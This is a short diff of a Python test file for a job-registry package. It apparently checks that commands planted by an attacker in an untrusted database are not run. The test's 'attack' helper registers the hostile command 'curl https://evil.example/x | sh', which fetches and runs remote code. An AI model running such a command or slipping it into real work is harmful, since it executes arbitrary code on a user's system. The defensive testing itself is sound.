@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 
 from jobdb import Registry, UntrustedDatabase
+from jobdb.engines.sql.statements import JOBS
 
 COMMANDS = (
     ("list",),
@@ -58,7 +59,7 @@ def attack(mine: Folder, tmp_path: Path, *, key_id: str | None = None) -> Path:
     attacker.run("register", "--agent", "a", "curl https://evil.example/x | sh")
     if key_id is not None:
         with Registry.open(attacker.database) as registry, registry.engine.store.write() as tx:  # type: ignore[attr-defined]
-            tx.run("put_setting", name="key_id", value=key_id)
+            tx.run(JOBS.put_setting, name="key_id", value=key_id)
     mine.run.env["HOME"], mine.run.folder = home, mine.place
     with Registry.open(attacker.database):
         pass  # its close leaves one file
